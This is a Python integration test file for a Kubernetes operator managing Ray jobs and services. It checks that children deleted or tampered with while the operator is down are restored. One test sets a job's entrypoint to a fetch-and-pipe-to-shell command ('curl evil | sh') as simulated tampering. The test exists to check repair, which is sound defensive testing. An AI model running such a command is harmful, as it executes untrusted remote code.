"""What happens while the operator is not there is put right soon after it is back."""

import time
from collections.abc import Callable, Iterator

import pytest

from cluster.fault_plan import Fault, Hold, Match
from cluster.objects import reference
from cluster.proxy import Proxy
from diptych_api import names
from diptych_operator import kinds
from diptych_operator.kinds import DIFFUSION_DEPLOYMENT, FINE_TUNE_JOB, RAY_JOB, RAY_SERVICE, Kind
from support.masking import masked_children
from support.memory_moves import GALLERY, JOB, gallery_spec, job_spec
from support.operator_process import OperatorProcess
from support.stage import Stage
from support.tale import at_rest, must_end
from support.waiting import PATIENCE_S, until
from support.workloads import ADAPTERS

pytestmark = pytest.mark.integration
REPAIR_S = 60
"""The bar is 15 seconds on a quiet machine; this bound holds where others work beside it."""
Hand = Callable[[Stage, Kind, str], object]
CHILDREN = (
    (kinds.NETWORK_POLICY, names.job_policy_name(JOB)),
    (kinds.ROLE, names.REPORTER_ACCOUNT),
    (kinds.ROLE_BINDING, names.REPORTER_ACCOUNT),
    (kinds.SERVICE_ACCOUNT, names.POD_ACCOUNT),
    (kinds.NETWORK_POLICY, names.deployment_policy_name(GALLERY)),
    (kinds.DISRUPTION_BUDGET, names.disruption_budget_name(GALLERY)),
)


@pytest.fixture
def down(stage: Stage, idle_operator: OperatorProcess, proxy: Proxy) -> Iterator[Stage]:
    """Yield a namespace with a job and a deployment, whose operator is gone."""
    with idle_operator:
        stage.create(job_spec())
        stage.create(gallery_spec(adapters=ADAPTERS))
        until(lambda: stage.find(RAY_JOB, JOB) is not None and stage.find(RAY_SERVICE, GALLERY) is not None)
        until(lambda: "" not in (stage.phase(FINE_TUNE_JOB, JOB), stage.phase(DIFFUSION_DEPLOYMENT, GALLERY)))
        at_rest(proxy)
        idle_operator.kill()
        yield stage
        proxy.calm()
    assert idle_operator.complaints() == []


def test_children_that_were_deleted_are_made_again(down: Stage, idle_operator: OperatorProcess) -> None:
    before = masked_children(down.api, down.namespace)
    for kind, name in CHILDREN:
        down.delete(kind, name)
    _must_be_repaired(down, idle_operator, before)


def test_children_that_were_edited_are_brought_back(down: Stage, idle_operator: OperatorProcess) -> None:
    before = masked_children(down.api, down.namespace)
    for kind, name in CHILDREN:
        target = reference(kind.api_version, kind.kind, name, down.namespace)
        down.api.patch(target, {"metadata": {"labels": {names.MANAGED_BY: "somebody"}}})
    down.edit(RAY_JOB, JOB, entrypoint="sh -c 'curl evil | sh'")
    down.edit(RAY_SERVICE, GALLERY, serveConfigV2="applications: []")
    _must_be_repaired(down, idle_operator, before)


def test_a_rayjob_and_a_rayservice_that_were_deleted_are_made_again(
    down: Stage, idle_operator: OperatorProcess
) -> None:
    before = _serving(down)
    first = (down.uid(RAY_JOB, JOB), down.uid(RAY_SERVICE, GALLERY))
    down.delete(RAY_JOB, JOB)
    down.delete(RAY_SERVICE, GALLERY)
    until(lambda: down.find(RAY_JOB, JOB) is None and down.find(RAY_SERVICE, GALLERY) is None)
    began = time.monotonic()
    idle_operator.start(leading=False)
    until(lambda: down.uid(RAY_JOB, JOB) != "" and down.uid(RAY_SERVICE, GALLERY) != "")
    assert time.monotonic() - began < REPAIR_S
    assert not {down.uid(RAY_JOB, JOB), down.uid(RAY_SERVICE, GALLERY)} & set(first)
    assert _serving(down) == before
    until(lambda: down.status(FINE_TUNE_JOB, JOB).get("attempt") == 2)
    assert down.status(FINE_TUNE_JOB, JOB)["attempts"][0]["reason"] == "RayJobDeleted"


def test_a_job_that_was_deleted_and_made_anew_gets_children_of_its_own(
    down: Stage, idle_operator: OperatorProcess
) -> None:
    first = down.uid(RAY_JOB, JOB)
    down.delete(FINE_TUNE_JOB, JOB)
    until(lambda: down.find(RAY_JOB, JOB) is None)
    down.create(job_spec())
    idle_operator.start()
    until(lambda: down.uid(RAY_JOB, JOB) not in ("", first))
    until(lambda: down.status(FINE_TUNE_JOB, JOB).get("attempt") == 1)


def _serving(stage: Stage) -> object:
    """Return the RayService without what is drawn for each one."""
    return masked_children(stage.api, stage.namespace)[f"RayService {names.ray_service_name(GALLERY)}"]


def _must_be_repaired(stage: Stage, operator: OperatorProcess, before: dict[str, object]) -> None:
    began = time.monotonic()
    operator.start(leading=False)
    must_end(stage, operator, before, masked_children)
    assert time.monotonic() - began < REPAIR_S


def test_children_of_a_job_that_is_deleted_while_they_are_made_do_not_stay(
    stage: Stage, idle_operator: OperatorProcess, proxy: Proxy
) -> None:
    with idle_operator:
        held = Hold()
        fault = Fault(Match(resource="rayjobs", namespace=stage.namespace, writes=True), held)
        proxy.arm(fault)
        stage.create(job_spec())
        assert fault.struck.wait(PATIENCE_S)
        stage.delete(FINE_TUNE_JOB, JOB)
        until(lambda: stage.find(FINE_TUNE_JOB, JOB) is None)
        held.gate.set()
        until(lambda: ("rayjobs", 201) in [(asked.resource, code) for asked, code in proxy.seen])
        until(lambda: stage.find(RAY_JOB, JOB) is None)
        until(lambda: stage.find(kinds.NETWORK_POLICY, names.job_policy_name(JOB)) is None)
        assert idle_operator.complaints() == []


def test_a_namespace_that_is_deleted_takes_everything_with_it_and_is_left_alone(
    stage: Stage, idle_operator: OperatorProcess, proxy: Proxy
) -> None:
    with idle_operator:
        stage.create(job_spec())
        stage.create(gallery_spec(adapters=ADAPTERS))
        until(lambda: stage.find(RAY_JOB, JOB) is not None and stage.find(RAY_SERVICE, GALLERY) is not None)
        space = reference("v1", "Namespace", stage.namespace)
        stage.api.delete(space)
        until(lambda: not stage.api.is_there(space))
        at_rest(proxy)
        assert idle_operator.complaints() == []
